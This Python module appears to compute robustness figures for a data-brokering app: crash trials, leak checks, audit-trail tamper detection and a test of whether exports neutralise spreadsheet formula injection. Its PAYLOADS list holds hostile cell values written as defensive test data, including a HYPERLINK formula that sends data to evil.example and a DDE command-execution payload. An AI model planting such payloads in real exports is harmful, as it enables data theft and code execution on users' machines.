"""`python -m brokering robustness`: the figures a data protection officer asks for, measured
now on this code — crash trials survived, leak checks run and leaks found, export payloads
neutralised, and the audit trail's tamper checks. Each figure comes from the same machinery
the tests use (crashes.py, leakcheck.py, exporting.py, audit.py), run in a scratch folder.

Malformed import files come from the importer's own corpus (brokering/importing/corpus.py),
imported as dry runs with the line limits lowered as its tests lower them (a 64 KB line), so
the bombs stay small while tripping the same checks a full-size file trips.
"""

from __future__ import annotations

import csv
import io
import tempfile
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pandas as pd

#: Export payloads as a hostile row would carry them: formula triggers, hidden behind
#: tabs, CR/LF, nulls, leading blanks, and the full-width and small forms of = + - @.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "=1+1\x00",
    "  =1+1",
    " \t @SUM(1)",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff201+1",
    "\ufe661+1",
    "\ufe621+1",
    "\ufe631+1",
    "\ufe6b1+1",
]
_SKIPPED = "".join(chr(c) for c in range(33)) + "\u00a0\u3000\u2000\u200b\ufeff"


def live(cell: str) -> bool:
    """Would a spreadsheet run this cell? Leading blanks and control characters are skipped
    as spreadsheets skip them; compatibility forms count as their ASCII twin; a null is
    never acceptable in an export."""
    if "\x00" in cell:
        return True
    rest = cell.lstrip(_SKIPPED)
    if not rest or rest[0] == "'":
        return False
    return unicodedata.normalize("NFKC", rest[0])[:1] in "=+-@"


def payload_check() -> dict:
    """Every payload, in a text column and inside a list, through the CSV and Excel writers."""
    import openpyxl

    from brokering.exporting import to_csv_bytes, to_xlsx_bytes

    frame = pd.DataFrame({"note": PAYLOADS, "tags": [[p, "x"] for p in PAYLOADS]})
    text = to_csv_bytes(frame).decode("utf-8-sig")
    csv_cells = [c for row in list(csv.reader(io.StringIO(text, newline="")))[1:] for c in row]
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame)))
    xlsx = [c for row in book.active.iter_rows(min_row=2) for c in row]
    xlsx_live = [c for c in xlsx if c.data_type == "f" or live(str(c.value or ""))]
    tried = 2 * 2 * len(PAYLOADS)
    still_live = sum(live(c) for c in csv_cells) + len(xlsx_live)
    rows_ok = len(csv_cells) == 2 * len(PAYLOADS) and len(xlsx) == 2 * len(PAYLOADS)
    return {
        "payloads": len(PAYLOADS),
        "cells_written": tried,
        "neutralised": tried - still_live,
        "live": still_live,
        "rows_intact": rows_ok,
    }


def audit_check() -> dict:
    """An untouched trail verifies; an edit, an insertion, a deletion, and a cut tail
    (against a noted head) are each found."""
    from brokering import audit
    from brokering.store import open_store
    from brokering.viewer import Viewer

    def trail() -> object:
        con = open_store(":memory:")
        for i in range(20):
            audit.record(con, Viewer("headteacher", "A", "head-a"), "search", {"n": i})
        return con

    def ids(con) -> list[int]:  # noqa: ANN001
        return [r[0] for r in con.execute("SELECT audit_id FROM audit_log ORDER BY 1").fetchall()]

    def edit(con) -> None:  # noqa: ANN001
        con.execute("UPDATE audit_log SET username = 'x' WHERE audit_id = ?", [ids(con)[5]])

    def delete(con) -> None:  # noqa: ANN001
        con.execute("DELETE FROM audit_log WHERE audit_id = ?", [ids(con)[7]])

    def insert(con) -> None:  # noqa: ANN001
        con.execute("UPDATE audit_log SET audit_id = audit_id + 1000 WHERE audit_id > ?", [9])
        con.execute(
            "INSERT INTO audit_log (audit_id, username, role, action, prev_hash, entry_hash) "
            "SELECT 10, 'intruder', 'alliance_admin', 'search', entry_hash, repeat('0', 64) "
            "FROM audit_log WHERE audit_id = 9"
        )

    tampers: dict[str, Callable] = {"edited": edit, "deleted": delete, "inserted": insert}
    found = {}
    clean = trail()
    untouched_ok = audit.verify(clean).ok
    clean.close()
    for name, tamper in tampers.items():
        con = trail()
        tamper(con)
        found[name] = not audit.verify(con).ok
        con.close()
    con = trail()
    head = audit.verify(con).head_hash
    con.execute("DELETE FROM audit_log WHERE audit_id = ?", [ids(con)[-1]])
    found["cut tail (against a noted head)"] = not audit.verify(con, expect=head).ok
    con.close()
    return {
        "untouched_trail_verifies": untouched_ok,
        "tamperings_tried": len(found),
        "tamperings_found": sum(found.values()),
        "by_kind": found,
    }


def malformed_check() -> dict:
    """The malformed-file corpus, every file a dry run on an empty store: rows in, valid,
    refused and unaccounted for; crashes and unclear messages."""
    import brokering.importing.reader as reader
    import brokering.importing.rows as staging_rows
    from brokering.importing.corpus import try_corpus
    from brokering.store import open_store
    from brokering.viewer import operator

    limits = [(staging_rows, "MAX_LINE_BYTES"), (reader, "HEADER_SEARCH_BYTES")]
    kept = [getattr(module, name) for module, name in limits]
    con = open_store(":memory:")
    try:
        for module, name in limits:
            setattr(module, name, 64 * 1024)
        return try_corpus(con, operator("robustness")).to_dict()
    finally:
        for (module, name), value in zip(limits, kept, strict=True):
            setattr(module, name, value)
        con.close()


#: The app's folder, where `ui_leakcheck.py` (the page matrix, run through Streamlit) lives.
APP_ROOT = Path(__file__).resolve().parents[1]


def page_check(work: Path) -> dict:
    """The leak matrix over every page (ui_leakcheck.py): every account x every page it may
    open, explored through the app in its own process (brokering never imports streamlit).
    Not run when the app's files are not beside the package (an installed copy)."""
    import json
    import subprocess
    import sys

    if not (APP_ROOT / "ui_leakcheck.py").exists():
        return {"checks": 0, "leaks": 0, "found": [], "run": False}
    done = subprocess.run(
        [sys.executable, "-m", "ui_leakcheck", "--json", str(work)],
        cwd=APP_ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    lines = [line for line in done.stdout.splitlines() if line.startswith("{")]
    if not lines:
        tail = (done.stderr or done.stdout).strip().splitlines()[-1:] or ["no output"]
        return {"checks": 0, "leaks": 1, "found": [f"page matrix failed: {tail[0]}"], "run": True}
    return {**json.loads(lines[-1]), "run": True}


def measure(trials: int = 200, work: Path | None = None, pages: bool = True) -> dict:
    """Every figure; `trials` kill trials (each a real import process, killed at random);
    `pages`: the page matrix too (a few minutes)."""
    from brokering import crashes, leakcheck

    with tempfile.TemporaryDirectory(prefix="brokering-robustness-") as tmp:
        root = Path(work or tmp)
        (root / "crash").mkdir(parents=True, exist_ok=True)
        (root / "leak").mkdir(parents=True, exist_ok=True)
        base = root / "crash" / "base.duckdb"
        crashes.make_base(base)
        kills = crashes.run_trials(base, root / "crash" / "trials", trials)
        leaks = leakcheck.run_matrix(root / "leak")
        (root / "pages").mkdir(parents=True, exist_ok=True)
        page_leaks = page_check(root / "pages") if pages else {"run": False}
    return {
        "kill_trials": kills.to_dict(),
        "leak_checks": leaks.to_dict(),
        "page_leak_checks": page_leaks,
        "payloads": payload_check(),
        "audit": audit_check(),
        "malformed_files": malformed_check(),
    }


def render(figures: dict) -> str:
    k, lk, p, a = (figures[x] for x in ("kill_trials", "leak_checks", "payloads", "audit"))
    m = figures["malformed_files"]
    lines = [
        "Robustness figures (measured now, on this code)",
        f"  Import killed at random moments: {k['survived']} of {k['trials']} trials left the "
        f"store whole ({k['held_all']} held all of the batch, {k['held_none']} none of it)",
        f"  Leak checks (every role x export and people-listing command, and Why this rank): "
        f"{lk['checks']} run, {lk['leaks']} leaks found",
        _pages_line(figures.get("page_leak_checks", {"run": False})),
        f"  Export payloads: {p['neutralised']} of {p['cells_written']} cells neutralised "
        f"({p['payloads']} payloads, in CSV and Excel, as text and inside lists)",
        f"  Audit trail: untouched trail verifies: "
        f"{'yes' if a['untouched_trail_verifies'] else 'NO'}; "
        f"tamperings found: {a['tamperings_found']} of {a['tamperings_tried']} "
        f"({', '.join(a['by_kind'])})",
        f"  Malformed import files: {m['files']} tried, {m['rows_in']} rows in = "
        f"{m['rows_valid']} valid + {m['rows_refused']} refused; {m['rows_unaccounted']} "
        f"unaccounted for, {m['crashes']} crashes, {m['unclear_messages']} unclear messages",
    ]
    lines += [f"  FAILED: {f}" for f in k["failures"] + lk["found"]]
    lines += [f"  FAILED: {f}" for f in figures.get("page_leak_checks", {}).get("found", [])]
    return "\n".join(lines)


def _pages_line(pg: dict) -> str:
    if not pg.get("run"):
        return "  Page leak checks: not run"
    return (
        f"  Page leak checks (every account x every page it may open, explored, downloads "
        f"fetched, caches shared across users): {pg['checks']} page states, "
        f"{pg['leaks']} leaks found"
    )


def all_good(figures: dict) -> bool:
    k, lk, p, a = (figures[x] for x in ("kill_trials", "leak_checks", "payloads", "audit"))
    return (
        not k["failures"]
        and lk["leaks"] == 0
        and figures.get("page_leak_checks", {}).get("leaks", 0) == 0
        and p["live"] == 0
        and p["rows_intact"]
        and a["untouched_trail_verifies"]
        and a["tamperings_found"] == a["tamperings_tried"]
        and figures["malformed_files"]["rows_unaccounted"] == 0
        and figures["malformed_files"]["crashes"] == 0
        and figures["malformed_files"]["unclear_messages"] == 0
        and figures["malformed_files"]["outcomes_not_as_expected"] == 0
    )
